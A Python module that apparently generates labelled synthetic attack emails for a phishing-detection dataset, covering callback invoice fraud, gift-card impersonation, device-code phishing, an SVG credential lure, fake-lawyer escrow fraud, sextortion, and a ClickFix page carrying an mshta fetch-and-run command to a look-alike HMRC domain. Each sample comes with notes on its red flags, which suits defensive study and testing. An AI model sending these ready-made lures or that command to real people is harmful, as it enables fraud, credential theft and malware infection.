"""English attack messages 09-16."""
import banking as bk
import files
import infra as I
from common import Mail, T, plus, rdate, addr, hval, text, attach, multipart, alt, html_doc, html_text, S


def a09():
    m = Mail("attack", 9, "en", "paypal-invoice-callback-toad")
    ids = m.ids
    t = T("2026-10-15 13:26:51")
    rc = S("uk_acc")
    inv = "INV2-7KQD-9X4B-2MRT-HW6E"
    phone = "+44 20 3769 5512"
    rec = [
        I.mx(ids, "mx0.slc.paypal.com", "mx0.slc.paypal.com", "173.0.84.225", rc.email, plus(t, 2)),
        I.postfix(ids, "mx0.slc.paypal.com", "slc-a-mtaout-10.slc.paypal.com", None, "10.72.146.179", plus(t, 1), zone="PT"),
    ]
    note = ("Your Microsoft 365 Business Premium subscription (25 licences) has been renewed automatically "
            "for 12 months. Amount GBP 489.99 will be debited from your account on file within 24 hours. "
            "If you did not authorise this renewal or wish to cancel and receive a full refund, call our "
            "billing department immediately on %s (Mon-Sat, 8am-8pm). Quote reference MS-47719. "
            "Do NOT pay this invoice online." % phone)
    plain = (
        "Microsoft Billing Support sent you an invoice\n\n"
        "Amount due: £489.99 GBP\nDue on receipt\nInvoice number: 0047719\n\n"
        "Seller note:\n%s\n\n"
        "View and pay invoice: https://www.paypal.com/invoice/p/#%s\n\n"
        "Items\nMicrosoft 365 Business Premium - annual renewal (25 users)   £489.99\n\n"
        "Help & Contact | Security | Apps\n"
        "PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your "
        "full name.\n"
        "Copyright © 1999-2026 PayPal, Inc. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A.\n") % (note, inv.replace("-", ""))
    html = html_doc(
        '<table width="600" align="center" style="font-family:Helvetica Neue,Arial,sans-serif;color:#2c2e2f">'
        '<tr><td style="padding:24px 0"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="40" alt="PayPal"></td></tr>'
        '<tr><td><h1 style="font-size:26px;font-weight:400">Microsoft Billing Support sent you an invoice</h1>'
        '<p style="font-size:32px;margin:8px 0">£489.99 GBP</p><p>Due on receipt &middot; Invoice number 0047719</p>'
        '<div style="background:#f5f7fa;padding:16px;margin:18px 0"><b>Seller note</b><br>%s</div>'
        '<p><a href="https://www.paypal.com/invoice/p/#%s" style="background:#0070e0;color:#fff;padding:12px 28px;border-radius:24px;text-decoration:none">View and Pay Invoice</a></p>'
        '<table width="100%%" style="border-top:1px solid #ddd;margin-top:16px"><tr><td>Microsoft 365 Business Premium - annual renewal (25 users)</td><td align="right">£489.99</td></tr></table>'
        '<p style="font-size:11px;color:#666;margin-top:30px">PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.<br>'
        'Copyright © 1999-2026 PayPal, Inc. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A.</p></td></tr></table>' % (note, inv.replace("-", "")), "en")
    body = alt(text(plain, "plain", "utf-8", "quoted-printable"), html_text(html, "utf-8", "quoted-printable"),
               "----=_Part_%d_%d.%d" % (ids.r.randrange(10 ** 6), ids.r.randrange(10 ** 9), 1792000000000 + ids.r.randrange(10 ** 8)))
    hs = [
        ("Date", rdate(t, "PT")),
        ("From", "PayPal <service@paypal.co.uk>"),
        ("Reply-To", "Microsoft Billing Support <billing.ms365.renewals@gmail.com>"),
        ("To", rc.email),
        ("Message-ID", "<%s.%s@mx0.slc.paypal.com>" % (ids.hex(13), ids.hex(10))),
        ("Subject", "Microsoft Billing Support sent you an invoice"),
        ("MIME-Version", "1.0"),
        ("X-Email-Type-Id", "PPX001052"),
        ("X-PP-Email-transmission-Id", ids.uuid()),
        ("PP-Correlation-Id", ids.hex(13)),
        ("X-XPT-XSL-Name", "invoice_received_by_payer"),
    ]
    return m.finish("<service@paypal.co.uk>", rec, hs, body,
        "Callback phishing (TOAD) through PayPal's genuine invoicing: seller 'Microsoft Billing Support' bills £489.99 for a Microsoft 365 renewal and urges to phone a 'billing department' instead of paying",
        "Sent from PayPal's real infrastructure, so sender checks pass; the payload is the seller note: fake Microsoft merchant, no customer name, a UK phone number and 'do NOT pay online' — the call leads to remote-access/refund fraud. Reply-To is a gmail.com address. Compare the genuine PayPal receipt (business 09).",
        "business/09")


def a10():
    m = Mail("attack", 10, "en", "gift-cards-md-impersonation-gmail")
    ids = m.ids
    t = T("2026-11-19 11:02:37")
    rc = S("uk_acc")
    sender = "james.whitfield.exgroup@gmail.com"
    rec, extra = I.gmail(ids, t, rc.email)
    plain = (
        "Hi Priya,\n\n"
        "Are you at your desk? I'm tied up in back-to-back meetings with the Ofgem team all afternoon and "
        "can't take calls.\n\n"
        "I need you to sort something for me discreetly. I'd like to thank the control room team for "
        "covering the outage weekend before the news goes round the office. Could you pick up 8 Amazon gift "
        "cards at £200 each? The Sainsbury's on Cannon Street has them. Keep the receipt and I'll approve "
        "the expense claim tomorrow.\n\n"
        "Once you have them, scratch off the backs and email me clear photos of the codes so I can add "
        "personal notes before end of day.\n\n"
        "Thanks,\nJames\n\nSent from my iPhone\n")
    html = ('<div dir="ltr">' + "".join(
        "<div>%s</div><div><br></div>" % p.replace("\n", "<br>") for p in plain.strip().split("\n\n")) + "</div>\n")
    bnd = ids.b_gmail()
    body = alt(text(plain, "plain", "UTF-8", "quoted-printable"),
               text(html, "html", "UTF-8", "quoted-printable"), bnd)
    hs = extra + [
        ("MIME-Version", "1.0"),
        ("From", "James Whitfield <%s>" % sender),
        ("Date", rdate(t, "GB")),
        ("X-Gm-Features", "AWmQ_bl" + ids.alnum(60)),
        ("Message-ID", ids.mid_gmail()),
        ("Subject", "Quick favour"),
        ("To", rc.email),
    ]
    return m.finish("<%s>" % sender, rec, hs, body,
        "Gift-card scam: 'James Whitfield' (UK managing director) on a Gmail address asks the UK finance manager to buy 8 × £200 Amazon gift cards and email photos of the codes",
        "Executive impersonation from a free mailer, unreachable by phone, secrecy ('before the news goes round'), gift cards as payment, codes requested by photo — gift cards are untraceable cash. The genuine MD request for client gifts goes through procurement (business 10).",
        "business/10")


def a11():
    m = Mail("attack", 11, "en", "device-code-phishing-teams-elexon")
    ids = m.ids
    t = T("2026-11-24 12:41:05")
    rc = S("uk_mgr")
    dom = "elexon-bsc-assurance.co.uk"
    server = "LO2P265MB%d" % ids.r.randrange(4000, 7999)
    region = "gbrp265"
    out = I.exo_out("GBR01", ids)
    rec = I.exo(ids, server, region, t, out[0], out[1], rc.email)
    code = "GH6XK2LPT"
    plain = (
        "Dear Mr Whitfield,\n\n"
        "Thank you for your time on the phone on Friday. As agreed, the Technical Assurance of Metering "
        "review for Example Group UK Ltd (BSC Party ID EXGUK) will take place today at 14:30 GMT.\n\n"
        "The session is hosted in Elexon's secure Microsoft Teams environment. External participants "
        "authenticate with a one-time device sign-in:\n\n"
        "  1. Go to https://microsoft.com/devicelogin\n"
        "  2. Enter the code: %s\n"
        "  3. Sign in with your Example Group work account to join the meeting\n\n"
        "Please note the code is valid for 15 minutes. If it expires, reply to this email and I will issue "
        "a new one.\n\n"
        "Kind regards\n\n"
        "Rebecca Holloway\nPerformance Assurance Analyst\nElexon | BSC Performance Assurance\n"
        "350 Euston Road, London NW1 3AW\n") % code
    html = html_doc(
        '<div style="font-family:Aptos,Calibri,Arial,sans-serif;font-size:11pt;color:#000">'
        "<p>Dear Mr Whitfield,</p>"
        "<p>Thank you for your time on the phone on Friday. As agreed, the Technical Assurance of Metering review for "
        "Example Group UK Ltd (BSC Party ID EXGUK) will take place today at <b>14:30 GMT</b>.</p>"
        "<p>The session is hosted in Elexon's secure Microsoft Teams environment. External participants authenticate "
        "with a one-time device sign-in:</p>"
        '<ol><li>Go to <a href="https://microsoft.com/devicelogin">https://microsoft.com/devicelogin</a></li>'
        '<li>Enter the code: <b style="font-size:14pt;letter-spacing:2px">%s</b></li>'
        "<li>Sign in with your Example Group work account to join the meeting</li></ol>"
        "<p>Please note the code is valid for 15 minutes. If it expires, reply to this email and I will issue a new one.</p>"
        "<p>Kind regards</p><p>Rebecca Holloway<br>Performance Assurance Analyst<br>Elexon | BSC Performance Assurance<br>"
        "350 Euston Road, London NW1 3AW</p>"
        '<hr><p style="font-size:9pt">________________________________________________________________________________<br>'
        '<b>Microsoft Teams</b> <a href="https://aka.ms/JoinTeamsMeeting">Need help?</a><br>'
        "Meeting ID: 384 117 902 551 &nbsp; Passcode: Tq7aZ3</p></div>" % code, "en")
    body = alt(text(plain, "plain", "us-ascii", "quoted-printable"), html_text(html, "us-ascii", "quoted-printable"),
               ids.b_outlook(server, 0))
    hs = [
        ("From", "Rebecca Holloway <r.holloway@%s>" % dom),
        ("To", "James Whitfield <%s>" % rc.email),
        ("Subject", "Elexon TAM review - Example Group UK - Teams session today 14:30"),
    ] + I.exo_hdrs(ids, server, region, t, "Elexon TAM review - Example Group UK - Teams session today 14:30")
    return m.finish("<r.holloway@%s>" % dom, rec, hs, body,
        "Device-code phishing: fake Elexon assurance analyst (look-alike domain on an M365 tenant) asks the UK MD to 'join the Teams review' by entering a code at microsoft.com/devicelogin",
        "The link is Microsoft's real device-login page, but the code was generated by the attacker: entering it and signing in hands the attacker OAuth tokens for the victim's mailbox (Storm-2372 technique). Elexon's domain is elexon.co.uk; Teams meetings never require device codes; 15-minute pressure after phone pretexting. Genuine Teams invitation: business 11.",
        "business/11")


def a12():
    m = Mail("attack", 12, "en", "svg-remittance-advice")
    ids = m.ids
    t = T("2026-11-26 09:18:44")
    rc = S("uk_acc")
    dom = "brightwell-facilities.co.uk"
    sender = "accounts@" + dom
    host = "cp-uk-17.webhostingpro.co.uk"
    import base64
    url = "https://remit-view.docs-portal.online/adv/?e=" + base64.b64encode(rc.email.encode()).decode()
    rec = [
        I.mx(ids, host, host, "185.151.30.149", rc.email, plus(t, 2)),
        I.exim(ids, host, "196.251.84.17", "[192.168.1.104]", t, sender, rc.email, zone="GB"),
    ]
    svg = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="640" height="420" viewBox="0 0 640 420">\n'
           '<rect width="640" height="420" fill="#f4f6f9"/>\n'
           '<rect x="20" y="20" width="600" height="380" fill="#ffffff" stroke="#d0d7e2"/>\n'
           '<text x="48" y="70" font-family="Segoe UI, Arial" font-size="24" fill="#1f3864">Remittance Advice</text>\n'
           '<text x="48" y="108" font-family="Segoe UI, Arial" font-size="14" fill="#444">Payer: Brightwell Facilities Ltd</text>\n'
           '<text x="48" y="132" font-family="Segoe UI, Arial" font-size="14" fill="#444">Payee: Example Group UK Ltd</text>\n'
           '<text x="48" y="156" font-family="Segoe UI, Arial" font-size="14" fill="#444">Payment reference: BWF-REM-20261126</text>\n'
           '<text x="48" y="180" font-family="Segoe UI, Arial" font-size="14" fill="#444">Amount: GBP 14,862.40 (3 invoices)</text>\n'
           '<text x="48" y="228" font-family="Segoe UI, Arial" font-size="13" fill="#777">This remittance is protected. Sign in with your Microsoft 365 account to view the PDF.</text>\n'
           '<a xlink:href="%s" href="%s" target="_blank">\n'
           '<rect x="48" y="262" width="260" height="46" rx="4" fill="#0f6cbd"/>\n'
           '<text x="70" y="291" font-family="Segoe UI, Arial" font-size="16" fill="#ffffff">View remittance (PDF)</text>\n'
           '</a>\n</svg>\n') % (url, url)
    plain = ("Hi,\n\nPlease find attached remittance advice for the payment released today.\n\n"
             "Kind regards\n\nAccounts Team\nBrightwell Facilities Ltd\nUnit 4, Riverside Park, Ipswich IP2 8JX\n")
    b = ids.b_outlook(None, 0)
    body = multipart("mixed", [
        text(plain, "plain", "us-ascii", "7bit"),
        attach(svg.encode("utf-8"), "image/svg+xml", "Remittance_Advice_BWF-REM-20261126.svg"),
    ], b, preamble="This is a multipart message in MIME format.")
    hs = [
        ("From", '"Accounts | Brightwell Facilities" <%s>' % sender),
        ("To", rc.email),
        ("Subject", "Remittance Advice - Payment Ref BWF-REM-20261126"),
        ("Date", rdate(t, "GB")),
        ("Message-ID", ids.mid_outlook_smtp(dom)),
        ("MIME-Version", "1.0"),
        ("X-Mailer", "Microsoft Outlook 16.0"),
        ("Thread-Index", ids.thread_index()),
        ("Content-Language", "en-gb"),
    ] + I.cpanel_hdrs(host, sender)
    return m.finish("<%s>" % sender, rec, hs, body,
        "SVG attachment phishing: 'remittance advice' from the compromised mailbox of a small facilities firm; the SVG renders a payment summary with a 'View remittance' button to a credential page",
        "No business relationship with the sender, one-line body, the attachment is an SVG (image format that can carry links/script) whose only function is a link to remit-view.docs-portal.online carrying the recipient address base64-encoded; submitted through cPanel SMTP from an unrelated foreign IP. The genuine remittance advice from a real customer is business 12.",
        "business/12")


def a13():
    m = Mail("attack", 13, "en", "clickfix-hmrc-climate-change-levy")
    ids = m.ids
    t = T("2026-12-01 08:07:19")
    rc = S("uk_acc")
    dom = "hmrc-levy-notices.co.uk"
    rec, mid, extra = I.ses(ids, t, rc.email)
    ref = "CCL/9982/0416"
    attach_html = (
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>HMRC - Secure document</title>\n"
        "<style>body{font-family:Arial,sans-serif;background:#f3f2f1;color:#0b0c0c}.w{max-width:560px;margin:50px auto;background:#fff;padding:30px;border-top:8px solid #1d70b8}"
        "code{display:block;background:#f3f2f1;border:1px solid #b1b4b6;padding:10px;margin:10px 0;font-size:13px}</style></head>\n"
        "<body><div class=\"w\"><h2>HM Revenue &amp; Customs</h2>\n"
        "<p><b>Climate Change Levy: query on return CCL100 (period 10/26)</b><br>Reference %s</p>\n"
        "<h3>Verify you are human</h3>\n"
        "<p>The secure document viewer could not verify your browser. Complete the following steps to open the document:</p>\n"
        "<ol><li>Press <b>Windows + R</b></li><li>Copy the verification line below and paste it with <b>Ctrl + V</b></li><li>Press <b>Enter</b></li></ol>\n"
        "<code>mshta https://hmrc-levy-notices.co.uk/verify/ccl9982.hta # I am not a robot - reCAPTCHA Verification ID: 7751-2093</code>\n"
        "<p style=\"font-size:12px;color:#505a5f\">Protected by reCAPTCHA. Privacy - Terms</p></div></body></html>\n") % ref
    plain = (
        "HM Revenue & Customs\n\n"
        "Climate Change Levy - query on return CCL100 for period 10/26\n"
        "Our reference: %s\n\n"
        "Dear Sir or Madam,\n\n"
        "We have reviewed the Climate Change Levy return submitted by Example Group UK Ltd for the accounting "
        "period ending 31 October 2026. The main rate supplies declared for electricity do not reconcile with "
        "the information held by us, and we need you to confirm the figures before we issue an assessment.\n\n"
        "The details of the query are in the attached secure document. Please open it on a Windows computer "
        "and follow the verification steps to view it.\n\n"
        "You must respond within 14 days of the date of this letter. If you do not, we may raise an "
        "assessment and charge a penalty under Schedule 6 to the Finance Act 2000.\n\n"
        "Yours faithfully\n\nEnvironmental Taxes Team\nHM Revenue and Customs\n") % ref
    html = html_doc(
        '<div style="font-family:Arial,sans-serif;font-size:15px;max-width:600px">'
        '<div style="background:#0b0c0c;color:#fff;padding:12px 16px;font-weight:bold">HM Revenue &amp; Customs</div>'
        "<p><b>Climate Change Levy – query on return CCL100 for period 10/26</b><br>Our reference: %s</p>"
        "<p>Dear Sir or Madam,</p><p>We have reviewed the Climate Change Levy return submitted by Example Group UK Ltd for "
        "the accounting period ending 31 October 2026. The main rate supplies declared for electricity do not reconcile "
        "with the information held by us, and we need you to confirm the figures before we issue an assessment.</p>"
        "<p>The details of the query are in the attached secure document. Please open it on a Windows computer and "
        "follow the verification steps to view it.</p>"
        "<p>You must respond within 14 days of the date of this letter. If you do not, we may raise an assessment and "
        "charge a penalty under Schedule 6 to the Finance Act 2000.</p><p>Yours faithfully<br><br>Environmental Taxes "
        "Team<br>HM Revenue and Customs</p></div>" % ref, "en")
    ib, ob = "----=_Part_%d_%d" % (ids.r.randrange(10 ** 6), ids.r.randrange(10 ** 9)), \
        "----=_Part_%d_%d" % (ids.r.randrange(10 ** 6), ids.r.randrange(10 ** 9))
    body = multipart("mixed", [
        alt(text(plain, "plain", "utf-8", "quoted-printable"), html_text(html, "utf-8", "quoted-printable"), ib),
        attach(attach_html.encode("utf-8"), "text/html", "CCL100_Query_9982-0416.html", att_charset="UTF-8"),
    ], ob)
    hs = [
        ("From", "HMRC Environmental Taxes <ccl.enquiries@%s>" % dom),
        ("To", rc.email),
        ("Subject", "Climate Change Levy - query on return CCL100 (ref %s)" % ref),
        ("MIME-Version", "1.0"),
        ("Message-ID", mid),
        ("Date", rdate(t, "UTC", day="pad0")),
    ] + extra
    return m.finish("<0102019%s-%s-000000@eu-west-1.amazonses.com>" % (ids.hex(13), ids.uuid()), rec, hs, body,
        "ClickFix: fake HMRC Climate Change Levy query with an HTML 'secure document' that tells the user to press Win+R and paste an mshta command ('I am not a robot')",
        "Trade-specific lure (energy suppliers collect CCL). Any page that tells a user to run a pasted command is malicious by definition; the command fetches a remote HTA. Look-alike domain hmrc-levy-notices.co.uk (HMRC uses gov.uk), sent via Amazon SES, penalty threat.",
        None)


def a14():
    m = Mail("attack", 14, "en", "ofgem-rego-register-credential-phish")
    ids = m.ids
    t = T("2026-10-29 10:55:12")
    rc = S("certs")
    dom = "renewables-chp-register.co.uk"
    rec, mid, extra = I.brevo(ids, t, rc.email)
    link = "https://%s.r.bh.d.sendibt3.com/tr/cl/%s" % (ids.alnum(6, "abcdefghijklmnopqrstuvwxyz0123456789"), ids.alnum(90, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"))
    plain = (
        "Renewables and CHP Register\n\n"
        "Transfer awaiting your acceptance\n\n"
        "A transfer of Renewable Energy Guarantees of Origin (REGOs) to your account has been initiated "
        "and is awaiting acceptance.\n\n"
        "Transferor:            Cairnmore Wind Farm Ltd\n"
        "Receiving account:     EXAMPLE GROUP UK LTD\n"
        "Certificates:          12,480 REGOs (wind, output period Apr 2026 - Sep 2026)\n"
        "Transfer ID:           TR-2026-0088417\n\n"
        "Transfers that are not accepted within 72 hours are automatically returned to the transferor. "
        "To review and accept the transfer, sign in to the Register:\n\n%s\n\n"
        "If you do not recognise this transfer, please sign in and reject it.\n\n"
        "Renewables and CHP Register team\n") % link
    html = html_doc(
        '<table width="600" style="font-family:Arial,sans-serif;font-size:14px;color:#222"><tr><td style="border-bottom:4px solid #00a0dc;padding:12px 0">'
        '<b style="font-size:18px;color:#00507a">Renewables and CHP Register</b></td></tr><tr><td style="padding:16px 0">'
        "<h3>Transfer awaiting your acceptance</h3><p>A transfer of Renewable Energy Guarantees of Origin (REGOs) to your account has been initiated and is awaiting acceptance.</p>"
        '<table style="font-size:14px"><tr><td>Transferor</td><td><b>Cairnmore Wind Farm Ltd</b></td></tr><tr><td>Receiving account</td><td>EXAMPLE GROUP UK LTD</td></tr>'
        "<tr><td>Certificates</td><td>12,480 REGOs (wind, Apr 2026 – Sep 2026)</td></tr><tr><td>Transfer ID</td><td>TR-2026-0088417</td></tr></table>"
        "<p>Transfers that are not accepted within <b>72 hours</b> are automatically returned to the transferor.</p>"
        '<p><a href="%s" style="background:#00507a;color:#fff;padding:10px 22px;text-decoration:none">Sign in to review transfer</a></p>'
        "<p>If you do not recognise this transfer, please sign in and reject it.</p><p>Renewables and CHP Register team</p></td></tr></table>"
        '<img src="https://%s.r.bh.d.sendibt3.com/tr/op/%s" width="1" height="1" alt="">' % (link, ids.alnum(6, "abcdefghijklmnopqrstuvwxyz"), ids.alnum(60)), "en")
    body = alt(text(plain, "plain", "utf-8", "quoted-printable"), html_text(html, "utf-8", "quoted-printable"),
               "----=_NmP-%s-Part_1" % ids.hex(16))
    hs = [
        ("Date", rdate(t, "UTC", day="pad0")),
        ("From", "Renewables and CHP Register <no-reply@%s>" % dom),
        ("Reply-To", "no-reply@" + dom),
        ("To", rc.email),
        ("Message-Id", mid),
        ("Subject", "Action required: REGO transfer TR-2026-0088417 awaiting your acceptance"),
        ("MIME-Version", "1.0"),
        ("List-Unsubscribe", "<https://%s.r.bh.d.sendibt3.com/tr/un/%s>" % (ids.alnum(6, "abcdefghijklmnopqrstuvwxyz"), ids.alnum(60))),
    ] + extra
    return m.finish("<bounces-%s-%s=example.com@sender-sib.com>" % (ids.digits(7), rc.email.split("@")[0]), rec, hs, body,
        "Credential phishing: fake Ofgem 'Renewables and CHP Register' notice of an incoming REGO transfer that must be accepted within 72 h",
        "Trade-specific greed/urgency lure to the certificates desk; the real register lives on ofgem.gov.uk, this comes from the look-alike renewables-chp-register.co.uk through Brevo with a tracking redirect that hides the login page; the unexpected 12,480-certificate gift is bait to capture register credentials (certificates can then be transferred away).",
        "business/16")


def a15():
    m = Mail("attack", 15, "en", "fake-lawyer-escrow-nordstern")
    ids = m.ids
    t = T("2026-10-13 08:36:52")
    rc = S("cfo")
    dom = "lehnert-partners-legal.com"
    server = "AM9PR08MB%d" % ids.r.randrange(5000, 7999)
    region = "eurprd08"
    out = I.exo_out("EUR03", ids)
    rec = I.exo(ids, server, region, t, out[0], out[1], rc.email)
    escrow = bk.iban("PT", bk.pt_bban("0033", "0000", "45318829105"))
    plain = (
        "Dear Ms Weiß,\n\n"
        "I am writing further to Dr Hölscher's instructions this morning regarding Project Nordstern. "
        "Our firm acts for Example Group SE in the acquisition of the Alentejo solar portfolio; the matter is "
        "subject to legal privilege and a strict non-disclosure undertaking towards the vendor.\n\n"
        "To secure exclusivity, the vendor requires the deposit of EUR 486,500.00 into our client escrow "
        "account today, value date 13 October 2026. The funds remain in escrow until signing and are fully "
        "refundable should the transaction not complete.\n\n"
        "Escrow account:\n"
        "Beneficiary: Lehnert & Partners - Client Escrow Account\n"
        "Bank: Banco Comercial Português, S.A., Lisbon\n"
        "IBAN: %s\n"
        "BIC: BCOMPTPL\n"
        "Reference: NORDSTERN-EXCL-1013\n\n"
        "The escrow instruction letter is attached. Please send me the MT103 confirmation as soon as the "
        "transfer has been released. Given the confidentiality of the matter, I would ask you not to discuss "
        "it with anybody other than Dr Hölscher until the public announcement; all correspondence should go "
        "through me.\n\n"
        "Kind regards\n\n"
        "Dr Marc Lehnert\nPartner | Corporate / M&A\nLehnert & Partners Legal\n"
        "Bahnhofstrasse 52, 8001 Zurich | +41 44 586 71 20\n\n"
        "This e-mail is confidential and may be legally privileged. If you are not the intended recipient, "
        "please notify the sender and delete it.\n") % bk.fmt_iban(escrow)
    html = html_doc('<div style="font-family:Calibri,Arial,sans-serif;font-size:11pt">%s</div>' % "".join(
        "<p>%s</p>" % p.replace("\n", "<br>") for p in plain.strip().split("\n\n")), "en")
    pdfb = files.pdf([
        "# ESCROW INSTRUCTION",
        "Project Nordstern - strictly private and confidential",
        "",
        "Client: Example Group SE, Huttropstrasse 60, 45138 Essen, Germany",
        "Matter: Acquisition of the Alentejo PV portfolio (212 MWp) - exclusivity deposit",
        "",
        "Amount: EUR 486,500.00      Value date: 13 October 2026",
        "Beneficiary: Lehnert & Partners - Client Escrow Account",
        "Bank: Banco Comercial Portugues, S.A., Lisbon    BIC: BCOMPTPL",
        "IBAN: " + bk.fmt_iban(escrow),
        "Reference: NORDSTERN-EXCL-1013",
        "",
        "The deposit is held in escrow pending signing of the SPA and is refundable in full if the",
        "transaction does not complete. This instruction is subject to legal privilege.",
        "",
        "Dr Marc Lehnert, Partner",
    ], title="Escrow Instruction - Nordstern", author="M. Lehnert",
        creator="Microsoft Word for Microsoft 365", producer="Microsoft Word for Microsoft 365",
        created="20261013100500+02'00'")
    body = multipart("mixed", [
        alt(text(plain, "plain", "iso-8859-1", "quoted-printable"), html_text(html, "iso-8859-1", "quoted-printable"),
            ids.b_outlook(server, 0)),
        attach(pdfb, "application/pdf", "Escrow_Instruction_Nordstern.pdf", size=True),
    ], ids.b_outlook(server, 4))
    topic = "Project Nordstern - escrow instruction (privileged & confidential)"
    hs = [
        ("From", "Dr Marc Lehnert <m.lehnert@%s>" % dom),
        ("To", addr("Katrin Weiß", rc.email, "iso-8859-1", "Q")),
        ("Subject", topic),
    ] + I.exo_hdrs(ids, server, region, t, topic, attach=True)
    return m.finish("<m.lehnert@%s>" % dom, rec, hs, body,
        "Fake lawyer (second stage of the CEO fraud in attack 01): 'Dr Marc Lehnert' sends escrow instructions for EUR 486,500 to a Portuguese account",
        "Unknown 'law firm' domain registered on an M365 tenant, refers to the CEO's 'instructions' that were themselves fraudulent, insists on same-day value date, privilege and secrecy, asks for the MT103. Zurich firm, Portuguese escrow, no engagement letter or prior contact.",
        "business/03")


def a16():
    m = Mail("attack", 16, "en", "sextortion-bitcoin-self-spoof")
    ids = m.ids
    t = T("2026-12-05 22:47:31")
    rc = S("uk_acc")
    btc = bk.bech32_p2wpkh(b"audit63-sextortion")
    rec = [I.mx(ids, "example.com", None, "177.87.14.203", rc.email, plus(t, 4), tls=None)]
    body = text(
        "Hello!\n\n"
        "I have to share bad news with you. Approximately a few months ago I gained access to your devices, "
        "which you use for internet browsing. After that, I started tracking your internet activities.\n\n"
        "As you can see, I sent you this email from your own account. Your account %s was compromised, "
        "and I still have access to it.\n\n"
        "I installed a trojan on your operating system. It gives me full access to your camera, microphone and "
        "files, and your antivirus cannot detect it because I update its signatures every few hours.\n\n"
        "I have recorded a video of you while you were watching adult websites, and collected your contacts, "
        "including your colleagues at work. With one click I can send this video to all of them.\n\n"
        "If you want to prevent this, transfer USD 1450 in Bitcoin to my wallet:\n\n%s\n\n"
        "If you do not know how to buy Bitcoin, search Google for \"how to buy bitcoin\".\n\n"
        "You have 48 hours from the moment you opened this email. I will know when you read it. Once I receive "
        "the payment, I will delete the video and the trojan for good. Do not reply to this email and do not "
        "tell anybody - if I notice that, the video goes out immediately.\n" % (rc.email, btc),
        "plain", "utf-8", "7bit")
    hs = [
        ("From", rc.email),
        ("To", rc.email),
        ("Subject", "Your account %s is compromised. Change your password!" % rc.email),
        ("Date", rdate(t, "BR", day="pad0")),
        ("Message-ID", "<%s$%s$%s@example.com>" % (ids.hex(12, True), ids.hex(8, True), ids.hex(8, True))),
        ("X-Mailer", "Microsoft Outlook Express 6.00.2900.2180"),
        ("X-Priority", "3"),
        ("MIME-Version", "1.0"),
    ]
    return m.finish("<%s>" % rc.email, rec, hs, body,
        "Sextortion: the recipient's own address is forged as sender; claims webcam recording and demands USD 1,450 to a Bitcoin (bech32) address within 48 h",
        "Self-spoofed From on a message that arrives directly from a residential IP in Brazil (HELO 'example.com', no rDNS, no TLS); generic extortion template with payment demand, deadline and threat to contact colleagues. Bitcoin address has a valid bech32 checksum.",
        None)


ALL = [a09, a10, a11, a12, a13, a14, a15, a16]
